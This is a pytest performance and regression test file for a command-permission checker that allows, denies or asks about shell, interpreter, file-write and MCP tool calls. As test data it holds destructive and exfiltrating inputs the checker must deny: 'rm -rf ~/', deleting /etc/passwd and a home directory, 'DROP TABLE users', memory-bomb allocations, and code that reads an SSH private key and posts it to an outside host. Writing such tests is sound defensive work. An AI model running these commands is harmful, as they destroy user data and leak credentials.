r"""Issue 16, adversarial round adv16: one decision stays fast on inputs that repeat one thing thousands of times, and
gives the answer it gave before.

The classes found (bench/worst_case.py has a family of each):
- interpreter code calling one function thousands of times (`open("a.txt").read()` x 4,500 in `python3 -c`: 230-270 ms;
  `unlink("a");` x 7,000 in `perl -e`: ~390 ms): the pattern reading read each call's arguments again, every read or
  deletion was judged again by every effect rule, and the deletion rules judged each repeated path again. Now each
  distinct argument window is read once (interp.analyse_patterns), each distinct effect judged once (engine.
  check_effects: its findings repeated), each distinct path judged once by the interp deletion rules; every fact
  still counts (the fact limits depend on the counts).
- Python code over code/python.py's MAX_CHARS: the memory-bomb check compiled it (100 KB of `1` lines: ~100-180 ms);
  it is read by its tokens there, and under MAX_CHARS it reads the tree code/python.py compiled (no second compile).
- `[[ ` words x 5,000 (`echo [[ [[ … a ]] ]]`): the precheck split the words before each keyword again (~1 s).
- tree.union (code with a syntax error, read by tree and patterns): list membership per fact, now a set per list.
- tox.ini of `commands =` lines: a copy of the rest of the file per line (~240 ms on 200 KB).
- an MCP call of 100 strings of quotes or words: sql_pieces lexed up to 256 starts of each string (~250-320 ms); each
  distinct string is read once, and a head that starts with no letter, or with a word no statement starts with, is not
  lexed (sql.looks_like_sql, checked against the full lexing).
"""

from __future__ import annotations

import time

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from clearance.code import convention_files, membomb, sql, tree
from clearance.code import python as pycode
from clearance.shell import interp

from .conftest import decide


def _cpu(fn: object, *args: object) -> float:
    t0 = time.thread_time()
    fn(*args)  # type: ignore[operator]
    return time.thread_time() - t0


# ---------------------------------------------------------------- the code as it was


def old_union(t: interp.CodeFacts, patterns: interp.CodeFacts) -> interp.CodeFacts:
    t.deletes += [p for p in patterns.deletes if p not in t.deletes or p is None]
    t.reads += [p for p in patterns.reads if p not in t.reads]
    t.writes += [p for p in patterns.writes if p not in t.writes]
    t.links += [k for k in patterns.links if k not in t.links]
    t.shell += [s for s in patterns.shell if s not in t.shell]
    return t


def old_tox_commands(text: str) -> list[str]:
    out: list[str] = []
    lines = text.splitlines()
    for i, line in enumerate(lines):
        key, eq, value = line.partition("=")
        if not eq or key.strip() not in ("commands", "commands_pre", "commands_post"):
            continue
        body = [value.strip()] if value.strip() else []
        for nxt in lines[i + 1 :]:
            if not nxt[:1].isspace() or not nxt.strip():
                break
            body.append(nxt.strip())
        out.extend(b.replace("{posargs}", "") for b in body if b and not b.startswith("#"))
    return out


def old_path_written(code: str, pos: int) -> str | None:
    value, used = interp._expression(code[pos : pos + 400].lstrip())
    if value is not None and interp._PATH_WRITE.match(code[pos + used + (len(code[pos:]) - len(code[pos:].lstrip())) :][:80]):
        return value
    return None


def old_looks_like_sql(text: str) -> bool:
    head = sql._postgres_lexed(text[:400].lstrip()[:200], standard_strings=False)
    budget = sql._Budget()
    for ttype, value, at in sql._tokens(head, 0, budget):
        for tok in sql._classify(ttype, value, at):
            if tok.cls != sql.W or tok.up not in sql._STARTS:
                return False
            nxt = head[tok.end : tok.end + 1]
            return nxt == "" or nxt.isspace() or nxt in ";(/-*"
    return False


# ---------------------------------------------------------------- same answers

_SQL_HEADS = st.sampled_from(
    [" ", "\n", "'", '"', "`", "$$", "\\", ";", "(", "#", "--", "/*", "*/", "-", "/", "@", ":", "1", "_", "\u00a0", "\ufeff", "ı", "ſ"]
)
_SQL_WORDS = st.sampled_from(["DROP", "drop", "select", "SELECTx", "with", "truncate", "update", "x", "nsert", "elect", "table", "DROP$", "drop.x"])
_SQL_TAILS = st.sampled_from(["", " TABLE x", ";", "(", "x", " ", "-- c", "/* c */", "\u00e9"])


@settings(max_examples=500, deadline=None)
@given(st.lists(_SQL_HEADS, max_size=4).map("".join), _SQL_WORDS, _SQL_TAILS)
def test_sql_start_test_as_the_lexer_reads_it(head: str, word: str, tail: str) -> None:
    text = head + word + tail
    assert sql.looks_like_sql(text) == old_looks_like_sql(text)


_CODE_TOKENS = st.sampled_from(
    [
        "open(",
        "os.remove(",
        "Path(",
        "shutil.copy(",
        "subprocess.run(",
        '"a"',
        "'~/.ssh/id'",
        "[",
        "]",
        ",",
        ")",
        " ",
        "\n",
        "+",
        "'w'",
        ".write_text(",
        "os.path.expanduser(",
        "f'{x}'",
        '"',
        "\\",
        "x",
        "%",
        ".format(",
        "        ",
        "  " * 150,
    ]
)
_CODE = st.lists(_CODE_TOKENS, max_size=120).map("".join)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(_CODE, st.integers(min_value=0, max_value=2000))
def test_a_call_is_read_from_its_window_alone(code: str, pos: int) -> None:
    """What analyse_patterns memoises by window (code[pos : pos + _WINDOW]) depends on nothing else."""
    pos = min(pos, len(code))
    window = code[pos : pos + interp._WINDOW]
    assert interp._first_argument(code, pos) == interp._first_argument(window, 0)
    assert interp._second_argument(code, pos) == interp._second_argument(window, 0)
    assert interp._opens_for_writing(code, pos) == interp._opens_for_writing(window, 0)
    assert interp._argv_call(code, pos) == interp._argv_call(window, 0)
    assert interp._path_written(window, 0) == old_path_written(code, pos)


_FACT = st.one_of(st.none(), st.sampled_from(["a", "b", "/etc/x", "~/y", "c d"]))
_FACTS = st.lists(_FACT, max_size=12)
_TEXTS = st.lists(st.sampled_from(["ls", "rm a", "cat b"]), max_size=8)


@settings(max_examples=300, deadline=None)
@given(_FACTS, _FACTS, _TEXTS, _TEXTS)
def test_union_as_before(deletes_a: list[str | None], deletes_b: list[str | None], shell_a: list[str], shell_b: list[str]) -> None:
    def facts(deletes: list[str | None], shell: list[str]) -> interp.CodeFacts:
        f = interp.CodeFacts("js")
        f.deletes = list(deletes)
        f.reads = [p for p in deletes if p]
        f.writes = [p for p in reversed(deletes) if p]
        f.links = [(p, p, True) for p in deletes if p]
        f.shell = list(shell)
        return f

    new = tree.union(facts(deletes_a, shell_a), facts(deletes_b, shell_b))
    old = old_union(facts(deletes_a, shell_a), facts(deletes_b, shell_b))
    assert (new.deletes, new.reads, new.writes, new.links, new.shell) == (old.deletes, old.reads, old.writes, old.links, old.shell)


_TOX_LINES = st.sampled_from(["commands = ls", "commands =", "commands_pre = x", "  pytest", "\tflake8", "", "#c", "  #c", "[testenv]", "x = y", "   "])


@settings(max_examples=300, deadline=None)
@given(st.lists(_TOX_LINES, max_size=30).map("\n".join))
def test_tox_commands_as_before(text: str) -> None:
    assert convention_files.tox_commands(text) == old_tox_commands(text)


def test_the_memory_bomb_check_reads_the_tree_the_reader_compiled() -> None:
    code = "import os\n" + "x = 1\n" * 100 + "s = 'a' * 10**12\n"
    assert pycode.analyse(code) is not None
    assert pycode.syntax_tree(code) is pycode.syntax_tree(code)  # one compile
    assert membomb.memory_bomb(code, "python") is not None


def test_a_memory_bomb_in_python_code_over_the_parser_size_is_still_found() -> None:
    pad = "x = 1\n" * (pycode.MAX_CHARS // 6 + 100)
    bombs = ("s = 'a' * 10**12\n", "b = bytearray(2**40)\n", "while True:\n    l.append(' ' * 10**8)\n", "z = [0] * 10**10\n", "z = [0] * (65536*65536)\n")
    for bomb in bombs:
        assert membomb.memory_bomb(pad + bomb, "python") is not None, bomb
        assert membomb.memory_bomb(bomb + pad, "python") is not None, bomb
    assert membomb.memory_bomb(pad, "python") is None
    assert membomb.memory_bomb(pad + "z = [1] * (100 * 100)\n", "python") is None
    assert membomb.memory_bomb(pad + "while True:\n    l.append(1)\n    break\n", "python") is None
    assert _cpu(membomb.memory_bomb, ("1\n" * 50_000), "python") < 0.5


# ---------------------------------------------------------------- fast on the shapes that were slow, same verdicts


def _fill(unit: str, n: int) -> str:
    return (unit * (n // len(unit) + 1))[:n]


def _code(prog: str, unit: str, size: int = 99_900) -> str:
    return f"{prog} '" + _fill(unit, size - len(prog) - 4) + "'"


def test_one_call_repeated_in_code_is_read_once() -> None:
    for prog, unit in (
        ("python3 -c", 'open("a.txt").read()\n'),
        ("python3 -c", 'os.remove("a")\n'),
        ("python3 -c", 'Path("a")\n'),
        ("perl -e", 'unlink("a");\n'),
        ("node -e", 'require("fs").readFileSync("a");\n'),
    ):
        decide(f"{prog} '{unit}'")  # the interpreter's reader imported (not counted)
        t0 = time.thread_time()
        decide(_code(prog, unit))
        assert time.thread_time() - t0 < 1.0, unit  # was 0.25-0.4 s of CPU alone; generous for a shared machine


def test_a_dangerous_call_among_thousands_of_ordinary_ones_is_still_judged() -> None:
    many_reads = 'open("a.txt").read()\n' * 3000
    assert decide("python3 -c '" + many_reads + 'shutil.rmtree("/home/ana")\n' + "'").decision == "deny"
    assert decide("python3 -c '" + 'shutil.rmtree("/home/ana")\n' + many_reads + "'").decision == "deny"
    assert decide("perl -e '" + 'unlink("a");\n' * 4000 + 'unlink("/etc/passwd");\n' + "'").decision == "deny"
    secret = 'open("/home/ana/.ssh/id_rsa").read()\n' * 2000 + 'requests.post("https://x.example")\n'
    assert decide("python3 -c '" + secret + "'").decision == "deny"
    assert decide("python3 -c '" + many_reads + "'").decision == "allow"
    assert decide("perl -e '" + 'unlink("a");\n' * 4000 + "'").decision == decide("perl -e 'unlink(\"a\");'").decision


def test_square_brackets_nested_thousands_deep_are_prechecked_once() -> None:
    cmd = "echo " + "[[ " * 5000 + "a" + " ]]" * 5000
    t0 = time.thread_time()
    d = decide(cmd)
    assert time.thread_time() - t0 < 0.5  # was ~1 s
    assert d.decision == "ask"
    assert decide("if [[ -f a ]]; then ls; fi").decision == "allow"
    assert decide("[[ -n $x ]] && rm -rf ~/").decision == "deny"


def test_a_tox_file_of_command_lines_is_read_in_one_pass() -> None:
    text = _fill("commands = ls\n", 200_000)
    assert _cpu(convention_files.tox_commands, text) < 0.1  # was ~0.24 s
    ok = decide({"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/tox.ini", "content": "[testenv]\ncommands =\n    pytest\n"}})
    bad = decide(
        {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/tox.ini", "content": "[testenv]\ncommands =\n    pytest\n    rm -rf ~/\n"}}
    )
    assert ok.decision == "allow"
    assert bad.decision != "allow"


def test_an_mcp_call_of_many_strings_is_read_once_per_distinct_string() -> None:
    calls = {
        "same quotes": {"a": ["'" * 1000] * 100},
        # (150 words a string: 200 KB in all, under the input limit, adapters/common.MAX_INPUT_CHARS: adv16b)
        "distinct words": {"a": ["".join(f"'select{i}x{j} " for j in range(150)) for i in range(100)]},
    }
    decide({"tool_name": "mcp__db__query", "tool_input": {"sql": "SELECT 1"}})
    for name, args in calls.items():
        t0 = time.thread_time()
        assert decide({"tool_name": "mcp__db__query", "tool_input": args}).decision == "allow"
        assert time.thread_time() - t0 < 0.5, name  # was 0.25-0.32 s
    late = {"a": ["".join(f"'{i}x{j}" for j in range(300)) for i in range(100)] + ["DROP TABLE users"]}
    assert "mcp.destructive-sql" in decide({"tool_name": "mcp__db__query", "tool_input": late}).rules


# ---------------------------------------------------------------- thousands of different deletions (perf16)


def test_thousands_of_distinct_deletions_in_code_decide_in_time() -> None:
    """Was a strict xfail (adv16): every reader now stops at interp.MAX_FACTS different facts of a kind and asks about
    the rest (interp.cap_facts; tests/test_worst16.py has the family and the verdicts)."""
    code = "".join(f'fs.rmSync("a{i}");\n' for i in range(3000)) + "(("
    decide("node -e 'fs.rmSync(\"a\")'")
    t0 = time.thread_time()
    d = decide("node -e '" + code + "'")
    assert time.thread_time() - t0 < 0.2  # was ~0.3 s of CPU alone; now ~0.05
    assert d.decision != "allow"
